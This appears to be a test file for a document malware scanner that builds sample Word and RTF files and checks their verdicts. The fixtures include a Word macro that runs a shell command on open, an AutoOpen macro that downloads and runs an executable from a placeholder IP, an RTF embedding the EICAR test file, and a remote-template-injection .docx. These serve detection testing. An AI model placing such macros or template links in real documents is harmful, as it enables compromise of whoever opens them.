/**
 * Office and RTF documents through the real engine and the X-Ray API: macro documents reach
 * SUS (MAL only with download + execute), an RTF carrying EICAR in a Packager object is MAL
 * through its child, remote template injection is SUS with its URL scanned, and a plain
 * document stays clean.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { startVerdict, type Running } from './harness.ts';
import { eicar, makeOle, makeZip, packagerData, vbaProjectStreams } from '../src/scanners/testing.ts';

let v: Running;
before(async () => {
  v = await startVerdict({ clamd: 'off', urlFetch: false });
});
after(async () => {
  await v?.close();
});

const heuristicsOf = (scan: Record<string, any>): string[] => scan.evidence.map((e: any) => e.heuristic);
const prefixed = (prefix: string, streams: Record<string, Buffer>) => Object.fromEntries(Object.entries(streams).map(([k, s]) => [`${prefix}${k}`, s]));
const find = (node: Record<string, any>, pred: (n: Record<string, any>) => boolean): Record<string, any> | undefined => {
  if (pred(node)) return node;
  for (const c of node.children ?? []) {
    const hit = find(c, pred);
    if (hit) return hit;
  }
  return undefined;
};

describe('documents', () => {
  test('a .doc whose Document_Open runs Shell is SUS, with the module source scanned as a child', async () => {
    const source = 'Attribute VB_Name = "ThisDocument"\r\nPrivate Sub Document_Open()\r\n  Shell "cmd /c whoami", vbHide\r\nEnd Sub\r\n';
    const doc = await makeOle({ WordDocument: Buffer.alloc(0x200), ...prefixed('Macros/', vbaProjectStreams([{ name: 'ThisDocument', source }])) });
    const scan = await v.waitForScan(await v.submitFile(doc, 'invoice.doc'));
    assert.equal(scan.verdict, 'SUS', JSON.stringify(scan.evidence));
    const hs = heuristicsOf(scan);
    for (const h of ['VBA_MACROS', 'VBA_AUTOEXEC', 'VBA_SUSPICIOUS_CALL', 'VBA_AUTOEXEC_SUSPICIOUS']) assert.ok(hs.includes(h), `${h} in ${hs}`);
    assert.ok(!hs.includes('VBA_DOWNLOAD_EXECUTE'));
    const macro = find(scan, (n) => n.sample_title === 'ThisDocument.vba');
    assert.ok(macro, JSON.stringify(scan.children));
  });

  test('a .docm whose AutoOpen downloads and executes is MAL', async () => {
    const source = 'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n  URLDownloadToFile 0, "http://198.51.100.3/a.exe", Environ("TEMP") & "\\a.exe", 0, 0\r\n  Shell Environ("TEMP") & "\\a.exe"\r\nEnd Sub\r\n';
    const docm = await makeZip({
      '[Content_Types].xml': Buffer.from('<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
      'word/document.xml': Buffer.from('<w:document><w:body/></w:document>'),
      'word/vbaProject.bin': await makeOle(vbaProjectStreams([{ name: 'Module1', source }])),
    });
    const scan = await v.waitForScan(await v.submitFile(docm, 'report.docm'));
    assert.equal(scan.verdict, 'MAL', JSON.stringify(scan.evidence));
    assert.ok(heuristicsOf(scan).includes('VBA_DOWNLOAD_EXECUTE'));
    // The zip scanner emits vbaProject.bin; the OLE scanner emits its module.
    assert.ok(find(scan, (n) => n.sample_title === 'Module1.vba'), 'module source child');
  });

  test('an RTF carrying EICAR in a Packager object is MAL through its child', async () => {
    const u32 = (n: number) => { const b = Buffer.alloc(4); b.writeUInt32LE(n); return b; };
    const native = packagerData('eicar.com', eicar());
    const ole1 = Buffer.concat([u32(0x0501), u32(2), u32(8), Buffer.from('Package\0'), u32(0), u32(0), u32(native.length), native]);
    const rtf = Buffer.from(`{\\rtf1\\ansi Hello{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata ${ole1.toString('hex')}}}}`, 'latin1');
    const scan = await v.waitForScan(await v.submitFile(rtf, 'letter.rtf'));
    assert.equal(scan.verdict, 'MAL');
    const child = find(scan, (n) => n.sample_title === 'eicar.com');
    assert.ok(child, JSON.stringify(scan.children));
    assert.equal(child.verbose_verdict, 'MAL');
  });

  test('remote template injection in a .docx is SUS and the template URL is a child', async () => {
    const docx = await makeZip({
      '[Content_Types].xml': Buffer.from('<Types/>'),
      'word/document.xml': Buffer.from('<w:document><w:body/></w:document>'),
      'word/_rels/settings.xml.rels': Buffer.from('<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://198.51.100.20/t.dotm" TargetMode="External"/></Relationships>'),
    });
    const scan = await v.waitForScan(await v.submitFile(docx, 'cv.docx'));
    assert.equal(scan.verdict, 'SUS', JSON.stringify(scan.evidence));
    assert.ok(heuristicsOf(scan).includes('OOXML_EXTERNAL_REL'));
    assert.ok(find(scan, (n) => n.sample_title === 'https://198.51.100.20/t.dotm' || n.sample?.url === 'https://198.51.100.20/t.dotm'), JSON.stringify(scan.children.map((c: any) => c.sample_title)));
  });

  test('a plain .docx is clean', async () => {
    const docx = await makeZip({
      '[Content_Types].xml': Buffer.from('<Types/>'),
      'word/document.xml': Buffer.from('<w:document><w:body><w:p><w:r><w:t>Quarterly figures</w:t></w:r></w:p></w:body></w:document>'),
      'word/_rels/document.xml.rels': Buffer.from('<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/" TargetMode="External"/></Relationships>'),
    });
    const scan = await v.waitForScan(await v.submitFile(docx, 'figures.docx'));
    assert.equal(scan.verdict, 'CLN', JSON.stringify(scan.evidence));
  });
});
